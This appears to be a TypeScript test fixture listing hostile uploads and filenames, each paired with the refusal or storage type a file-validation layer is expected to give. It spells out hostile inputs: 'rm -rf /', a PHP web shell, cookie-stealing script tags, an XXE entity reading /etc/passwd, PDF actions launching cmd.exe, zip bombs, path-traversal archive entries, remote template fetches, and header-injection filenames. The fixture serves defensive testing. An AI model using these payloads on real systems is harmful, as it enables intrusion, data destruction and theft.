import { deflateSync } from 'node:zlib'
import { heavyEntry, zipOf } from './zip.ts'

/** A file that somebody sends to do harm, and what becomes of it. */
export interface Hostile {
  readonly what: string
  readonly name: string
  readonly make: () => Buffer
  /** Code of the refusal, or the type under which it is kept, to be saved and never shown. */
  readonly ends: { readonly refused: string } | { readonly kept: string }
}

const refused = (code: string) => ({ refused: `files.${code}` })
const kept = (type: string) => ({ kept: type })
const text = (content: string) => () => Buffer.from(content)
const plain = kept('text/plain')
const csv = kept('text/csv')
const pdf = kept('application/pdf')
const png = kept('image/png')
const jpeg = kept('image/jpeg')
const docx = kept('application/vnd.openxmlformats-officedocument.wordprocessingml.document')

const chunk = (type: string, data: Buffer) => {
  const head = Buffer.alloc(8)
  head.writeUInt32BE(data.length)
  head.write(type, 4, 'latin1')
  return Buffer.concat([head, data, Buffer.alloc(4)])
}

export function pngOf(width: number, height: number, behind: Buffer | string = ''): Buffer {
  const header = Buffer.alloc(13)
  header.writeUInt32BE(width)
  header.writeUInt32BE(height, 4)
  header.writeUInt8(8, 8)
  const signature = Buffer.from('89504e470d0a1a0a', 'hex')
  const picture = [chunk('IHDR', header), chunk('IDAT', deflateSync(Buffer.alloc(64))), chunk('IEND', Buffer.alloc(0))]
  return Buffer.concat([signature, ...picture, Buffer.from(behind)])
}

const jpegOf = (width: number, height: number, comment = '') => {
  const frame = Buffer.from('ffc0001108000000000301220002110103110 1'.replaceAll(' ', ''), 'hex')
  frame.writeUInt16BE(height, 5)
  frame.writeUInt16BE(width, 7)
  const said = Buffer.from(`\xff\xfe\x00${String.fromCharCode(comment.length + 2)}${comment}`, 'latin1')
  const start = Buffer.from('ffd8ffe000104a46494600010100000100010000', 'hex')
  return Buffer.concat([start, said, frame, Buffer.from('ffd9', 'hex')])
}

const webpOf = (width: number, height: number) => {
  const body = Buffer.alloc(18)
  body.write('VP8X', 0, 'latin1')
  body.writeUInt32LE(10, 4)
  body.writeUIntLE(width - 1, 12, 3)
  body.writeUIntLE(height - 1, 15, 3)
  const head = Buffer.from('RIFF\x00\x00\x00\x00WEBP', 'latin1')
  head.writeUInt32LE(body.length + 4, 4)
  return Buffer.concat([head, body])
}

const pdfWith = (object: string) =>
  text(`%PDF-1.7\n1 0 obj\n<< /Type /Catalog ${object} >>\nendobj\ntrailer\n<< /Root 1 0 R >>\n%%EOF\n`)

const types = (main: string) =>
  `<?xml version="1.0"?><Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types"><Override PartName="/word/document.xml" ContentType="${main}"/></Types>`
const wordMain = 'application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml'
type Part = Parameters<typeof zipOf>[0][number]

/** A Word document with further parts; `main` is what it says that it is. */
const wordWith =
  (parts: readonly Part[], main = wordMain) =>
  () =>
    zipOf([
      { name: '[Content_Types].xml', text: types(main) },
      { name: 'word/document.xml', text: '<w:document/>' },
      ...parts,
    ])

const relation = (type: string, target: string) =>
  `<Relationships><Relationship Id="r1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/${type}" Target="${target}" TargetMode="External"/></Relationships>`

const script = '<script>alert(document.cookie)</script>'
const ofd = { name: 'OFD.xml', text: '<a/>' }

export const hostileFiles: readonly Hostile[] = [
  {
    what: 'a Windows program called a picture',
    name: 'a.png',
    make: () => Buffer.from('MZ\x90\0\x03\0\0\0', 'latin1'),
    ends: refused('type_refused'),
  },
  {
    what: 'a Linux program called a document',
    name: 'a.pdf',
    make: () => Buffer.from('\x7fELF\x02\x01\x01\0\0\0\0\0', 'latin1'),
    ends: refused('type_refused'),
  },
  {
    what: 'a Java program',
    name: 'a.jpg',
    make: () => Buffer.from('cafebabe00000034', 'hex'),
    ends: refused('type_refused'),
  },
  { what: 'a shell script', name: 'a.sh', make: text('#!/bin/sh\nrm -rf /\n'), ends: plain },
  { what: 'a PHP script called a picture', name: 'a.php.png', make: text('<?php system($_GET[0]); ?>'), ends: plain },
  { what: 'a page called a picture', name: 'a.png', make: text(`<!doctype html>${script}`), ends: plain },
  { what: 'a page called a table', name: 'a.html.csv', make: text(`<html>${script}</html>`), ends: csv },
  {
    what: 'a vector picture with a script',
    name: 'a.svg',
    make: text(`<?xml version="1.0"?><svg xmlns="http://www.w3.org/2000/svg">${script}</svg>`),
    ends: refused('type_refused'),
  },
  {
    what: 'the same without its head',
    name: 'a.svg',
    make: text(`<svg onload="alert(1)" xmlns="http://www.w3.org/2000/svg"/>`),
    ends: plain,
  },
  {
    what: 'XML with an outside entity',
    name: 'a.xml',
    make: text('<?xml version="1.0"?><!DOCTYPE a [<!ENTITY b SYSTEM "file:///etc/passwd">]><a>&b;</a>'),
    ends: refused('type_refused'),
  },
  {
    what: 'a shortcut of Windows',
    name: 'a.url',
    make: text('[InternetShortcut]\r\nURL=file://203.0.113.7/a\r\n'),
    ends: plain,
  },
  {
    what: 'an archive',
    name: 'a.pdf',
    make: () => zipOf([{ name: 'a.txt', text: 'a' }]),
    ends: refused('type_refused'),
  },
  {
    what: 'an archive of another sort',
    name: 'a.docx',
    make: () => Buffer.from('526172211a070100', 'hex'),
    ends: refused('type_refused'),
  },
  {
    what: 'a compressed stream',
    name: 'a.csv',
    make: () => Buffer.from('1f8b0800000000000003', 'hex'),
    ends: refused('type_refused'),
  },
  {
    what: 'a moving picture',
    name: 'a.png',
    make: () => Buffer.from('GIF89a\x01\0\x01\0\0\0\0;', 'latin1'),
    ends: refused('type_refused'),
  },
  {
    what: 'a picture of a sort that is not taken',
    name: 'a.jpg',
    make: () => Buffer.from('49492a0008000000', 'hex'),
    ends: refused('type_refused'),
  },
  { what: 'nothing', name: 'a.txt', make: () => Buffer.alloc(0), ends: refused('empty') },
  {
    what: 'a byte more than is taken',
    name: 'a.txt',
    make: () => Buffer.alloc(20 * 1024 * 1024 + 1, 'a'),
    ends: refused('too_large'),
  },
  { what: 'text with NUL', name: 'a.txt', make: text('a\0b'), ends: refused('type_refused') },
  {
    what: 'text that moves the cursor of a terminal',
    name: 'a.txt',
    make: text('\x1b]0;owned\x07'),
    ends: refused('type_refused'),
  },
  {
    what: 'text in UTF-16',
    name: 'a.csv',
    make: () => Buffer.from('\ufeff名称,数量\n', 'utf16le'),
    ends: refused('type_refused'),
  },
  {
    what: 'broken GB 18030',
    name: 'a.csv',
    make: () => Buffer.from('c3fbb3c681', 'hex'),
    ends: refused('type_refused'),
  },
  { what: 'a table of a million columns', name: 'a.csv', make: text('a,'.repeat(1_000_000)), ends: csv },
  {
    what: 'a PDF that runs a script',
    name: 'a.pdf',
    make: pdfWith('/OpenAction << /S /JavaScript /JS (app.alert(1)) >>'),
    ends: pdf,
  },
  {
    what: 'a PDF that starts a program',
    name: 'a.pdf',
    make: pdfWith('/OpenAction << /S /Launch /F (cmd.exe) >>'),
    ends: pdf,
  },
  {
    what: 'a PDF that is a page as well',
    name: 'a.html',
    make: () => Buffer.concat([pdfWith('')(), Buffer.from(`<html>${script}`)]),
    ends: pdf,
  },
  {
    what: 'a PDF that is an archive as well',
    name: 'a.pdf',
    make: () => Buffer.concat([pdfWith('')(), zipOf([{ name: 'a.exe', text: 'MZ' }])]),
    ends: pdf,
  },
  { what: 'a picture that is a page as well', name: 'a.html', make: () => pngOf(1, 1, script), ends: png },
  {
    what: 'a photograph with a script in its comment',
    name: 'a.jpg',
    make: () => jpegOf(8, 8, '<?php system(0); ?>'),
    ends: jpeg,
  },
  {
    what: 'a PNG of 10^10 pixels',
    name: 'a.png',
    make: () => pngOf(100_000, 100_000),
    ends: refused('too_many_pixels'),
  },
  {
    what: 'a JPEG of 4 · 10^9 pixels',
    name: 'a.jpg',
    make: () => jpegOf(65_535, 65_535),
    ends: refused('too_many_pixels'),
  },
  {
    what: 'a WebP of 2.8 · 10^14 pixels',
    name: 'a.webp',
    make: () => webpOf(16_777_216, 16_777_216),
    ends: refused('too_many_pixels'),
  },
  {
    what: 'a JPEG that does not say how large it is',
    name: 'a.jpg',
    make: () => Buffer.from('ffd8ffe000104a46494600010100000100010000', 'hex'),
    ends: refused('too_many_pixels'),
  },
  {
    what: 'a PNG that ends before it says so',
    name: 'a.png',
    make: () => pngOf(1, 1).subarray(0, 18),
    ends: refused('too_many_pixels'),
  },
  {
    what: 'a document that unpacks to 320 MB',
    name: 'a.ofd',
    make: () => zipOf([ofd, heavyEntry('a')]),
    ends: refused('unpacks_too_large'),
  },
  {
    what: 'one of many parts that do so together',
    name: 'a.ofd',
    make: () =>
      zipOf([ofd, ...Array.from({ length: 400 }, (_, i) => ({ name: `a${i}`, text: 'a', claims: 1_000_000 }))]),
    ends: refused('unpacks_too_large'),
  },
  {
    what: 'archives within archives',
    name: 'a.ofd',
    make: () =>
      zipOf([ofd, { name: 'a.zip', text: zipOf([{ name: 'b.zip', text: zipOf([{ name: 'c', text: 'c' }]) }]) }]),
    ends: refused('holds_program'),
  },
  {
    what: 'a document of 6,000 parts',
    name: 'a.ofd',
    make: () => zipOf([ofd, ...Array.from({ length: 6_000 }, (_, i) => ({ name: `a${i}`, text: '' }))]),
    ends: refused('unpacks_too_large'),
  },
  {
    what: 'parts that climb out of their folder',
    name: 'a.docx',
    make: wordWith([{ name: '../../etc/cron.d/a', text: 'a' }]),
    ends: refused('unsafe_parts'),
  },
  {
    what: 'parts at the root of a disk',
    name: 'a.docx',
    make: wordWith([{ name: 'C:\\Windows\\a.ini', text: 'a' }]),
    ends: refused('unsafe_parts'),
  },
  {
    what: 'a part that is a link to another place',
    name: 'a.docx',
    make: wordWith([{ name: 'word/media/a', text: '/etc/passwd', mode: 0o120777 }]),
    ends: refused('unsafe_parts'),
  },
  {
    what: 'parts that nobody can look into',
    name: 'a.docx',
    make: wordWith([{ name: 'word/settings.xml', text: 'a', flags: 1 }]),
    ends: refused('encrypted'),
  },
  {
    what: 'an encrypted document',
    name: 'a.docx',
    make: () => Buffer.concat([Buffer.from('d0cf11e0a1b11ae1', 'hex'), Buffer.alloc(512)]),
    ends: refused('type_refused'),
  },
  {
    what: 'a document with macros',
    name: 'a.docx',
    make: wordWith([{ name: 'word/vbaProject.bin', text: 'a' }]),
    ends: refused('holds_program'),
  },
  {
    what: 'macros under another name',
    name: 'a.docx',
    make: wordWith([{ name: 'word/notes.xml', text: 'a' }], 'application/vnd.ms-office.vbaProject'),
    ends: refused('holds_program'),
  },
  {
    what: 'a .docm',
    name: 'a.docm',
    make: wordWith([], 'application/vnd.ms-word.document.macroEnabled.main+xml'),
    ends: refused('type_refused'),
  },
  {
    what: 'a program within a document',
    name: 'a.docx',
    make: wordWith([{ name: 'word/media/image1.exe', text: 'MZ' }]),
    ends: refused('holds_program'),
  },
  {
    what: 'a template that is fetched from elsewhere',
    name: 'a.docx',
    make: wordWith([
      {
        name: 'word/_rels/settings.xml.rels',
        text: relation('attachedTemplate', 'http://203.0.113.7/a.dotm'),
        deflate: true,
      },
    ]),
    ends: refused('fetches_from_elsewhere'),
  },
  {
    what: 'an object that is fetched from elsewhere',
    name: 'a.docx',
    make: wordWith([{ name: 'word/_rels/document.xml.rels', text: relation('oleObject', 'http://203.0.113.7/a') }]),
    ends: refused('fetches_from_elsewhere'),
  },
  {
    what: 'relations in an encoding of their own',
    name: 'a.docx',
    make: wordWith([
      { name: 'word/_rels/document.xml.rels', text: Buffer.from(relation('oleObject', 'a'), 'utf16le') },
    ]),
    ends: refused('unreadable'),
  },
  {
    what: 'relations that unpack to 320 MB and say that they do not',
    name: 'a.docx',
    make: wordWith([heavyEntry('word/_rels/document.xml.rels', 10)]),
    ends: refused('unpacks_too_large'),
  },
  {
    what: 'a document with a plain link, which stays',
    name: 'a.docx',
    make: wordWith([{ name: 'word/_rels/document.xml.rels', text: relation('hyperlink', 'https://www.example.com/') }]),
    ends: docx,
  },
  { what: 'a cut archive', name: 'a.docx', make: () => wordWith([])().subarray(0, 90), ends: refused('unreadable') },
]

/** Names that mislead, and what is made of them for a text. */
export const hostileNames: readonly (readonly [string, string])[] = [
  ['../../etc/passwd', 'passwd.txt'],
  ['C:\\temp\\a.html', 'a.html.txt'],
  ['报告\u202etxt.exe', '报告txt.exe.txt'],
  [`${'长'.repeat(300)}.txt`, `${'长'.repeat(120)}.txt`],
  ['a\u0000.png.txt', 'a.png.txt'],
  ['CON.txt', '_CON.txt'],
  ['aux', '_aux.txt'],
  ['lpt1.csv.txt', '_lpt1.csv.txt'],
  ['..', 'file.txt'],
  ['a.txt. . ', 'a.txt'],
  ['a"; filename=b.html', 'a%22; filename=b.html.txt'],
  ['a\r\nSet-Cookie: b=c.txt', 'a%0D%0ASet-Cookie_ b=c.txt'],
]
